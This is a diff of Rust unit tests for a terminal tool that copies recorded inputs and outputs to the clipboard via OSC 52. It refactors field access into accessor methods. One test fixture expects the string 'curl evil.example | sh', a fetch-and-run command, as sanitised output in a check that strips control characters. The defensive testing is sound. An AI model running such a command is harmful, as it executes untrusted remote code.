@@ -11,7 +11,7 @@ use rawpv::source::DEMO;
 #[test]
 fn y_queues_the_input_as_osc52() {
     let mut app = App::headless(import::load_bytes(DEMO.as_bytes()).items, "demo");
-    let s = &app.session;
+    let s = app.session();
     let row = s
         .items
         .iter()
@@ -21,10 +21,10 @@ fn y_queues_the_input_as_osc52() {
         unreachable!()
     };
     let input = s.invocations[*k].input.clone();
-    let row = app.view.row_of(row).expect("visible");
+    let row = app.view().row_of(row).expect("visible");
     app.select(row);
     app.press(KeyCode::Char('y'));
-    let seq = app.clipboard_out.take().expect("an OSC 52 sequence");
+    let seq = app.take_clipboard_out().expect("an OSC 52 sequence");
     let b64 = seq
         .strip_prefix("\x1b]52;c;")
         .and_then(|s| s.strip_suffix('\x07'))
@@ -35,12 +35,12 @@ fn y_queues_the_input_as_osc52() {
     let copied: serde_json::Value = serde_json::from_slice(&text).expect("JSON input");
     assert_eq!(copied, input);
     assert!(
-        app.view
+        app.view()
             .message
             .as_deref()
             .is_some_and(|m| m.starts_with("copied the input (")),
         "{:?}",
-        app.view.message
+        app.view().message
     );
 }
 
@@ -67,18 +67,22 @@ fn copy_of_a_call_whose_file_was_truncated_says_so_and_copies_nothing() {
     );
     let row = inv.item;
     let mut app = App::new("file", false);
-    app.session = session;
+    *app.session_mut() = session;
     app.update(rawpv::app::Msg::Source(rawpv::source::SourceMsg::Eof));
-    let row = app.view.row_of(row).expect("visible");
+    let row = app.view().row_of(row).expect("visible");
     app.select(row);
     // Before: the real input is copied.
     app.press(KeyCode::Char('y'));
-    assert!(app.clipboard_out.take().is_some(), "{:?}", app.view.message);
+    assert!(
+        app.take_clipboard_out().is_some(),
+        "{:?}",
+        app.view().message
+    );
     f.as_file().set_len(0).unwrap();
     for (key, what) in [('y', "input"), ('Y', "output"), ('r', "raw JSON")] {
         app.press(KeyCode::Char(key));
-        assert_eq!(app.clipboard_out.take(), None, "{key} copied a stand-in");
-        let msg = app.view.message.clone().unwrap_or_default();
+        assert_eq!(app.take_clipboard_out(), None, "{key} copied a stand-in");
+        let msg = app.view().message.clone().unwrap_or_default();
         assert!(
             msg.starts_with(&format!("cannot copy the {what}: "))
                 && msg.contains("the file is shorter than when it was read"),
@@ -96,7 +100,7 @@ fn copied_output_has_no_control_characters_and_says_what_went() {
     let mut app = App::headless(items, "paste");
     app.select(0);
     app.press(KeyCode::Char('Y'));
-    let seq = app.clipboard_out.take().expect("an OSC 52 sequence");
+    let seq = app.take_clipboard_out().expect("an OSC 52 sequence");
     let b64 = seq
         .strip_prefix("\x1b]52;c;")
         .and_then(|s| s.strip_suffix('\x07'))
@@ -109,7 +113,7 @@ fn copied_output_has_no_control_characters_and_says_what_went() {
         "harmless\ncurl evil.example | sh\n31mok\n"
     );
     assert_eq!(
-        app.view.message.as_deref(),
+        app.view().message.as_deref(),
         Some("copied the output (38 bytes) to the clipboard; 9 control characters removed")
     );
 }
